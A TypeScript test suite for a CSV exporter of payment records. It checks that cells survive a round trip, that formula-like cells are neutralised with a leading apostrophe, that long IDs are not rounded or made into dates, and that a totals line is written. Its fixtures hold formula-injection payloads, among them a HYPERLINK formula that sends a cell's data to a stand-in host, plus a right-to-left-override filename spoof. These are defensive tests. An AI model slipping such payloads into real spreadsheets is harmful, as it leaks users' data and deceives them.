// A CSV that people open in spreadsheets and programs parse: what is in a cell comes back as it was, and is never run, rounded or
// made a date of on the way. Read back by a parser that is not the writer's.

import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Consumption } from "../../src/domain/consumption.ts";
import { COLUMNS } from "../../src/exporting/columns.ts";
import { linesOf, type LineWish } from "../../src/exporting/lines.ts";
import { guardCell } from "../../src/exporting/spreadsheetGuard.ts";
import { addTotals, NO_TOTALS } from "../../src/exporting/totals.ts";
import { consumptionOf } from "../graphql/support/records.ts";

const GUARDED: LineWish = { format: "csv", hasBom: true, isPlain: false, hasTotals: true, hasCursors: false };
const PLAIN: LineWish = { ...GUARDED, hasBom: false, isPlain: true };

const NASTY = [
  'two\r\nlines and a "quote", a comma; a semicolon',
  '=HYPERLINK("http://example.com/?"&A1,"거래")',
  "+1",
  "-2+3",
  "@SUM(A1)",
  "\tcmd",
  "\r=1",
  "\n=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  " =1",
  "\u200B=1",
  "\uFEFF=1",
  "'=1",
  "'quoted'",
  "한국어 결제 ㅋㅋ",
  "\u202Egpj.exe",
  "مرحبا",
  "👩‍👩‍👧",
  "2014090210002254",
  "９００７１９９２５４７４０９９３",
  "007",
  "123E45",
  "2026-11-23",
  "1/2",
  "",
  " ",
];

/** Of what parsers and spreadsheets stumble over. */
const ODD = Array.from("=+-@'\"\t\r\n, ;#1/E.０＝－\u200B\uFEFF\u0000한a");

function textOf(wish: LineWish, consumptions: readonly Consumption[]): string {
  const { opening, rows, whole } = linesOf(wish);
  return opening + rows(consumptions) + whole(addTotals(NO_TOTALS, consumptions));
}

/** By name, and the last line apart. */
function readBack(text: string) {
  const [header = [], ...lines] = parse(text, { bom: true });
  const records = lines.map((cells) => Object.fromEntries(header.map((name, index) => [name, cells[index]])));
  return { header, rows: records.slice(0, -1), last: records.at(-1) };
}

const named = (text: string, n = 0) =>
  consumptionOf(n, { message: text, storeOrderId: text, playerId: text, productId: text, market: text });
const COPIES = ["message", "storeOrderId", "playerId", "productId", "market"];

describe("every cell comes back", () => {
  it("as it was, where it is plain", () => {
    const { rows } = readBack(
      textOf(
        PLAIN,
        NASTY.map((text, n) => named(text, n)),
      ),
    );
    for (const name of COPIES) expect(rows.map((row) => row[name])).toEqual(NASTY);
  });

  it("as it was with one apostrophe taken off the front, where it is guarded", () => {
    const { rows } = readBack(
      textOf(
        GUARDED,
        NASTY.map((text, n) => named(text, n)),
      ),
    );
    for (const name of COPIES) expect(rows.map((row) => row[name]?.replace(/^'/, ""))).toEqual(NASTY);
  });

  it("whatever it is", () => {
    const texts = fc.array(fc.string({ unit: fc.constantFrom(...ODD) }), { minLength: 1, maxLength: 20 });
    const isGiven = (any: readonly string[]) => {
      expect(any.map((text) => guardCell(text, true).replace(/^'/, ""))).toEqual(any);
      const { rows } = readBack(
        textOf(
          PLAIN,
          any.map((text, n) => named(text, n)),
        ),
      );
      expect(rows.map((row) => row["message"])).toEqual(any);
    };
    fc.assert(fc.property(texts, isGiven), { numRuns: 20 });
  });
});

describe("a spreadsheet", () => {
  it("runs no cell: whatever begins like a formula begins with an apostrophe", () => {
    for (const text of NASTY.slice(1, 17)) expect(guardCell(text, false), JSON.stringify(text)).toBe(`'${text}`);
  });

  it("rounds no number of a payment, an item or an order, and makes no date of one", () => {
    for (const text of ["2014090210002254", "9223372036854775807", "007", "123E45", "2026-11-23", "1/2", "９００７"])
      expect(guardCell(text, true)).toBe(`'${text}`);
    const row = consumptionOf(1, { paymentSeq: "2014090210002254", itemSeq: 9_223_372_036_854_775_807n });
    const [told] = readBack(textOf(GUARDED, [row])).rows;
    expect(told).toMatchObject({ paymentSeq: "'2014090210002254", itemSeq: "'9223372036854775807" });
  });

  it("may add up and sort what is a quantity: those are left as they are", () => {
    const row = consumptionOf(1, { itemSeq: 999_999_999_999_999n, resultCode: -7 });
    const [told] = readBack(textOf(GUARDED, [row])).rows;
    expect(told).toMatchObject({ itemSeq: "999999999999999", amount: "1000", resultCode: "-7" });
    expect(told?.["requestedAt"]).toBe("2026-01-01T00:00:01.000Z");
  });

  it("finds UTF-8 by the mark in front, which plain ones have not", () => {
    expect(textOf(GUARDED, []).codePointAt(0)).toBe(0xfeff);
    expect(textOf(PLAIN, []).startsWith('"id"')).toBe(true);
  });
});

describe("the last line", () => {
  const rows = [
    consumptionOf(1, { price: { amountMicros: 100_000n, currency: "EUR" } }),
    consumptionOf(2, { price: { amountMicros: 200_000n, currency: "EUR" } }),
    consumptionOf(3),
    consumptionOf(4, { price: null, priceSource: "UNKNOWN" }),
    consumptionOf(5, { price: null, status: "REJECTED", evidence: null }),
    consumptionOf(6, { price: null, status: "REJECTED", evidence: null }),
  ];

  it("has the totals of what was written, exactly, and none of them among the amounts", () => {
    const { last, header } = readBack(textOf(GUARDED, rows));
    expect(JSON.parse(last?.["message"] ?? "")).toEqual({
      complete: true,
      rows: 6,
      totals: [
        { currency: "EUR", count: 2, amount: "0.3", unknownPriceCount: 0 },
        { currency: "KRW", count: 1, amount: "1000", unknownPriceCount: 0 },
        { currency: null, count: 3, amount: null, unknownPriceCount: 1 },
      ],
    });
    expect(last?.["id"]).toBe("#totals");
    const others = header.filter((name) => name !== "id" && name !== "message");
    expect(others.map((name) => last?.[name])).toEqual(others.map(() => ""));
  });

  it("says that rows are missing, and where they begin, where the export was cut short", () => {
    const { cut, opening } = linesOf(GUARDED);
    const { last } = readBack(opening + cut(addTotals(NO_TOTALS, rows), "a-cursor"));
    expect(last?.["id"]).toBe("#incomplete");
    expect(JSON.parse(last?.["message"] ?? "")).toMatchObject({ complete: false, rows: 6, cursor: "a-cursor" });
  });

  it("is not there where it is not wanted", () => {
    const text = textOf({ ...PLAIN, hasTotals: false }, rows);
    expect(parse(text)).toHaveLength(1 + rows.length);
  });
});

it("every line has a cell for every column, in the order that is promised", () => {
  const lines = parse(textOf(PLAIN, [consumptionOf(1)]));
  expect(lines.map((cells) => cells.length)).toEqual([26, 26, 26]);
  expect(lines[0]).toEqual(COLUMNS.map(({ name }) => name));
  expect(lines[0]?.join()).toBe(
    "id,app,environment,paymentSeq,itemSeq,playerId,status,evidence,amount,currency,priceSource,resultCode,requestedAt," +
      "settledAt,nextAttemptAt,seenUnconsumedAt,market,storeOrderId,productId,purchasedAt,isTest,deliveryOutcome," +
      "deliveryReference,deliveredAt,message,productType",
  );
});
